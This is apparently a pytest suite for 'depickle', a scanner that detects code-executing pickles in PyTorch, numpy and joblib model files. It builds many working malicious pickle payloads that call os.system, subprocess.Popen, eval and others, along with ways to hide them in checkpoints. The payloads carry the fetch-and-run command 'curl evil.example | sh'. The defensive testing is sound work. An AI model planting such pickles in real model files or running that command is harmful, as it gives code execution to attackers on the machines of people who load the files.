"""scan finds every way to name or call something, with its offset."""
import gzip
import io
import os
import pathlib
import struct
import tarfile
import zipfile

import numpy as np
import pytest
import torch

import pickles
import zips
from pickles import call, dict_of, integer, named, storage, stream, tensor, text
from program import COULD_NOT, NO, YES, run, scan, verdict

pytestmark = pytest.mark.hostile

DATA = struct.pack("<6f", *range(6))
COMMAND = "curl evil.example | sh"
ARGUMENTS = pickles.tuple_of(text(COMMAND))
SYSTEM = call("posix", "system", text(COMMAND))


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def line(value):
    return f"V{value}\n".encode()


# Different ways to execute code; Python would run all of these pickles.
CALLS = {
    "GLOBAL and REDUCE": stream(SYSTEM),
    "STACK_GLOBAL": stream(short("posix") + short("system") + b"\x93" + ARGUMENTS + b"R", 4),
    "STACK_GLOBAL of strings from the memo": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93"
    + ARGUMENTS
    + b"R.",
    "STACK_GLOBAL of strings in another order on the stack": stream(
        short("system") + b"q\x000" + short("os") + b"h\x00\x93" + ARGUMENTS + b"R", 4
    ),
    "INST": b"(" + line(COMMAND) + b"ios\nsystem\n.",
    "OBJ": stream(b"(" + named("os", "system") + text(COMMAND) + b"o"),
    "OBJ with its result dropped": stream(b"(" + named("os", "system") + text(COMMAND) + b"o0N"),
    "REDUCE with its result dropped": stream(SYSTEM + b"0}"),
    "NEWOBJ": stream(named("os", "system") + ARGUMENTS + b"\x81"),
    "NEWOBJ_EX": stream(named("subprocess", "Popen") + ARGUMENTS + b"}\x92", 4),
    "Python 2's name": stream(call("__builtin__", "eval", text("1"))),
    "a dotted name": stream(short("bdb") + short("Bdb.run") + b"\x93" + ARGUMENTS + b"R", 4),
    "an attribute of a harmless module": stream(call("torch.serialization", "os.system", text(COMMAND)), 4),
    "in the items of a state dict": stream(dict_of({"w": tensor(storage("0", 6), [6], [1]), "x": SYSTEM})),
    "as the key of a dict": stream(b"}" + SYSTEM + b"Ns"),
    "as an argument of a builder": stream(call("torch._utils", "_rebuild_tensor_v2", SYSTEM, integer(0))),
    "as the function of from_type_v2": stream(
        call("torch._tensor", "_rebuild_from_type_v2", named("os", "system"), named("torch", "Tensor"), ARGUMENTS, b"N")
    ),
    "as the class of a storage": stream(
        pickles.tuple_of(text("storage"), named("os", "system"), text("0"), text("cpu"), integer(6)) + b"Q"
    ),
    "as a persistent id": stream(SYSTEM + b"Q"),
    "the state of a function": stream(named("os", "system") + b"}" + text("a") + b"Nsb"),
    "an extension code": stream(b"\x82\x07" + ARGUMENTS + b"R"),
    "a global that is not called": stream(dict_of({"x": named("builtins", "eval")})),
    "an unknown class": stream(call("evil_package", "Thing")),
    "before the stream breaks off": stream(SYSTEM)[:-1],
    "before an unknown opcode": stream(SYSTEM)[:-1] + b"\xff",
    "before a bad frame": b"\x80\x04" + SYSTEM + b"\x95" + struct.pack("<Q", 1 << 40) + b".",
    "in a second pickle": stream(b"}") + stream(SYSTEM),
    "in a pickle inside bytes": stream(
        call("pickle", "loads", b"\x43" + bytes([len(stream(SYSTEM))]) + stream(SYSTEM)), 3
    ),
    "in what _load_from_bytes reads": stream(
        call("torch.storage", "_load_from_bytes", b"\x43" + bytes([len(stream(SYSTEM))]) + stream(SYSTEM)), 3
    ),
    "from runpy": stream(call("runpy", "_run_code", text("print(1)"))),
    "from pip": stream(call("pip", "main", text("install"))),
}


SHAPES = {
    "bare": lambda pickle: pickle,
    "zip": lambda pickle: zips.checkpoint(pickle, [DATA]),
    "hidden record": lambda pickle: zips.checkpoint(
        pickles.one_tensor(), [DATA], extra=[zips.Entry("archive/notes.txt", pickle)]
    ),
    "legacy": lambda pickle: b"".join(
        [stream(integer(0x1950A86A20F9469CFC6C)), stream(integer(1001)), stream(b"}"), pickle]
    ),
}


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory):
    """The verdicts on all calls in all shapes, from one run."""
    folder = tmp_path_factory.mktemp("calls")
    paths = {}
    for shape, make in SHAPES.items():
        for name, pickle in CALLS.items():
            path = paths[shape, name] = folder / f"{shape}, {name}.bin"
            path.write_bytes(make(pickle))
    code, files = scan(*paths.values())
    assert code == NO
    return {place: file["verdict"] for place, file in zip(paths, files, strict=True)}


@pytest.mark.parametrize("name", CALLS)
@pytest.mark.parametrize("shape", SHAPES)
def test_code_is_found_in_every_place(verdicts, shape, name):
    assert verdicts[shape, name] == "has-code"


def test_a_finding_has_an_offset_and_a_description(tmp_path):
    path = tmp_path / "model.bin"
    pickle = CALLS["in the items of a state dict"]
    path.write_bytes(zips.checkpoint(pickle, [DATA]))
    code, (file,) = scan(path)
    (finding,) = file["findings"]
    assert code == NO and finding["record"].endswith("data.pkl")
    assert "system" in finding["what"] and COMMAND in finding["what"] and finding["words"]
    # The offset of the call, R, or of the global that is called.
    assert finding["offset"] in (pickle.index(b"cposix"), pickle.index(b"R", pickle.index(COMMAND.encode())))
    by_name = {entry["name"]: entry for entry in file["globals"]}
    assert by_name["torch._utils._rebuild_tensor_v2"]["count"] == 1
    text_report = run("scan", path)
    assert text_report.code == NO and COMMAND in text_report.out and str(finding["offset"]) in text_report.out


def test_a_global_that_builds_tensors_is_counted_and_is_not_a_finding(tmp_path):
    torch.save({f"w{index}": torch.ones(2) for index in range(5)}, tmp_path / "model.pt")
    code, (file,) = scan(tmp_path / "model.pt")
    assert code == YES and file["verdict"] == "tensors-only" and file["findings"] == []
    counts = {entry["name"]: entry["count"] for entry in file["globals"]}
    assert counts["torch._utils._rebuild_tensor_v2"] in (1, 5)  # once, or once per use


def test_a_second_archive_in_the_file_is_scanned(tmp_path):
    good, evil = zips.checkpoint(pickles.one_tensor(), [DATA]), zips.checkpoint(stream(SYSTEM), [DATA])
    for name, content in {
        "behind": good + evil,
        "before": evil + good,
        "prefixed": bytes(16) + evil,
        "cut off": evil[:-22],
        "no directory": evil[: evil.index(b"PK\1\2")],
    }.items():
        (tmp_path / name).write_bytes(content)
        assert verdict(tmp_path / name) == "has-code", name


def test_code_after_a_legacy_file_and_in_its_other_pickles(tmp_path):
    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buffer, _use_new_zipfile_serialization=False)
    legacy = buffer.getvalue()
    (tmp_path / "good").write_bytes(legacy)
    assert verdict(tmp_path / "good") == "tensors-only"
    (tmp_path / "behind").write_bytes(legacy + stream(SYSTEM))
    assert verdict(tmp_path / "behind") == "has-code"
    second = legacy.index(b"\x80\x02M\xe9\x03.")
    (tmp_path / "among").write_bytes(legacy[:second] + stream(SYSTEM) + legacy[second:])
    assert verdict(tmp_path / "among") == "has-code"


def test_a_computed_magic_number_is_code(tmp_path):
    computed = stream(call("__builtin__", "eval", text("0x1950A86A20F9469CFC6C")))
    (tmp_path / "model.pt").write_bytes(computed + stream(integer(1001)) + stream(b"}") + stream(b"}") + stream(b"]"))
    assert verdict(tmp_path / "model.pt") == "has-code"


def test_torchscript_is_code(tmp_path):
    torch.save({"w": torch.ones(2)}, tmp_path / "model.pt")
    with zipfile.ZipFile(tmp_path / "model.pt", "a") as archive:
        archive.writestr(
            "model/code/__torch__.py", "class Evil(Module):\n  def forward(self):\n    ops.aten.save(...)\n"
        )
    assert verdict(tmp_path / "model.pt") == "has-code"


def test_sarif_has_the_file_the_offset_and_the_rule(tmp_path):
    evil, archived, broken = (tmp_path / name for name in ("evil.pkl", "archived.bin", "broken.bin"))
    evil.write_bytes(stream(SYSTEM))
    archived.write_bytes(zips.checkpoint(stream(SYSTEM), [DATA]))
    broken.write_bytes(b"\x80\x02]q")
    done = run("scan", "--sarif", evil, archived, broken)
    assert done.code == NO
    assert done.json["version"] == "2.1.0"
    (job,) = done.json["runs"]
    assert job["tool"]["driver"]["name"] == "depickle"
    assert {rule["id"] for rule in job["tool"]["driver"]["rules"]} == {"has-code", "unreadable"}
    called, inside, unread = job["results"]
    assert [result["ruleId"] for result in job["results"]] == ["has-code", "has-code", "unreadable"]
    place, inside_place = (result["locations"][0]["physicalLocation"] for result in (called, inside))
    assert place["artifactLocation"]["uri"] == str(evil) and inside_place["artifactLocation"]["uri"] == str(archived)
    assert evil.read_bytes()[place["region"]["byteOffset"]:][:1] == b"R", "the byte of the call"
    assert "region" not in inside_place, "an offset in a record is not an offset in the file"
    assert all(COMMAND in result["message"]["text"] and result["level"] == "error" for result in (called, inside))
    assert unread["level"] == "warning" and "broken.bin" in unread["message"]["text"]


def test_no_command_runs_the_code_of_a_file(tmp_path):
    target = tmp_path / "ran"
    path = tmp_path / "model.bin"
    path.write_bytes(zips.checkpoint(stream(call("posix", "system", text(f"touch {target}"))), [DATA]))
    for verb in ("scan", "inspect", "convert"):
        run(verb, path)
    assert not target.exists()


NAMESPACE = call("argparse", "Namespace")
OWN_CLASS = call("my.models", "Net")


@pytest.mark.parametrize("value, grade", [(SYSTEM, "executes"), (OWN_CLASS, "unknown"), (NAMESPACE, "inert")],
                         ids=["executes", "unknown", "inert"])
def test_fail_on_a_grade_or_a_worse_one(value, grade, tmp_path):
    path = tmp_path / "model.pkl"
    path.write_bytes(stream(value))
    grades = ["inert", "unknown", "executes"]
    codes = [run("scan", path, "--fail-on", least).code for least in grades]
    assert codes == [NO if grades.index(least) <= grades.index(grade) else YES for least in grades]
    (file,) = run("scan", "--json", path).json["files"]
    assert [finding["grade"] for finding in file["findings"]] == [grade]
    level = {"executes": "error", "unknown": "warning", "inert": "note"}[grade]
    assert run("scan", "--sarif", path).json["runs"][0]["results"][0]["level"] == level


def test_findings_of_one_package_are_one_line(tmp_path):
    path = tmp_path / "training_args.bin"
    names = ["TrainingArguments", "OptimizerNames", "ParallelMode"]
    value = b"(" + b"".join(call("transformers.training_args", name) for name in names) + SYSTEM + b"t"
    path.write_bytes(stream(value))
    lines = run("scan", path).out.splitlines()
    assert len(lines) == 3 and "posix.system" in lines[1]
    assert "transformers.training_args.TrainingArguments() and 2 more of transformers   inert: only stores" in lines[2]


def test_a_hint_to_convert_only_if_there_are_tensors(tmp_path):
    (tmp_path / "code.pkl").write_bytes(stream(SYSTEM))
    assert "depickle convert" not in run("scan", tmp_path / "code.pkl").err
    (tmp_path / "model.pt").write_bytes(zips.checkpoint(
        stream(dict_of({"w": tensor(storage("0", 6), [6], [1]), "x": SYSTEM})), [DATA]))
    assert "depickle convert" in run("scan", tmp_path / "model.pt").err


def test_a_folder_with_hostile_arrays(tmp_path):
    torch.save({"w": torch.ones(2)}, tmp_path / "good.pt")
    np.save(tmp_path / "good.npy", np.ones(3))
    assert run("scan", tmp_path).code == YES
    evil = np.empty(1, object)
    evil[0] = os.getcwd
    np.save(tmp_path / "evil.npy", evil)
    np.savez(tmp_path / "evil.npz", w=np.ones(2), x=evil)
    np.save(tmp_path / "renamed.npy", evil)
    (tmp_path / "renamed.npy").rename(tmp_path / "renamed.dat")
    files = run("scan", tmp_path, "--json").json["files"]
    verdicts = {pathlib.Path(file["file"]).name: file["verdict"] for file in files}
    assert verdicts == {"good.pt": "tensors-only", "good.npy": "tensors-only", "evil.npy": "has-code",
                        "evil.npz": "has-code", "renamed.dat": "has-code"}


def test_a_folder_scan_finds_every_file_that_a_loader_opens(tmp_path):
    """By content where a name says nothing; texts, tables and other archives are not in the report."""
    torch.save({"w": torch.ones(2)}, tmp_path / "good.pt")
    (tmp_path / "README.md").write_text("(a text that begins with an opcode)\n")
    (tmp_path / "merges.txt").write_text("I1 S\n] x\n")
    with tarfile.open(tmp_path / "data.tar", "w") as archive:
        archive.add(tmp_path / "README.md", "README.md")
    assert {pathlib.Path(file["file"]).name for file in run("scan", tmp_path, "--json").json["files"]} == {"good.pt"}
    (tmp_path / "protocol0").write_bytes(b"cposix\nsystem\n(S'id'\ntR.")
    (tmp_path / "array.joblib").write_bytes(stream(SYSTEM))
    (tmp_path / "compressed.joblib.gz").write_bytes(gzip.compress(stream(SYSTEM)))
    (tmp_path / "evil").write_bytes(stream(SYSTEM))
    with tarfile.open(tmp_path / "model.tar", "w") as archive:
        archive.add(tmp_path / "README.md", "sys_info")
        archive.add(tmp_path / "evil", "storages")
    files = run("scan", tmp_path, "--json").json["files"]
    assert {pathlib.Path(file["file"]).name: file["verdict"] for file in files} == {
        "good.pt": "tensors-only", "protocol0": "has-code", "array.joblib": "has-code", "evil": "has-code",
        "compressed.joblib.gz": "unreadable", "model.tar": "unreadable"}


def test_a_folder_with_unreadable_entries_is_scanned_to_the_end(tmp_path):
    (tmp_path / "evil.pkl").write_bytes(stream(SYSTEM))
    torch.save({"w": torch.ones(2)}, tmp_path / "good.pt")
    (tmp_path / "loop.pt").symlink_to("loop.pt")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "up").symlink_to("..")
    (tmp_path / "empty.bin").write_bytes(b"")
    (tmp_path / "gone.bin").symlink_to("nowhere")
    os.mkfifo(tmp_path / "fifo.bin")
    done = run("scan", tmp_path, "--json")
    files = {pathlib.Path(file["file"]).name: file for file in done.json["files"]}
    assert {name: file["verdict"] for name, file in files.items()} == {
        "evil.pkl": "has-code", "good.pt": "tensors-only", "loop.pt": "unreadable", "empty.bin": "unreadable"}
    assert "symbolic links" in files["loop.pt"]["error"]
    assert done.code == NO
    (tmp_path / "evil.pkl").unlink()
    assert run("scan", tmp_path).code == COULD_NOT
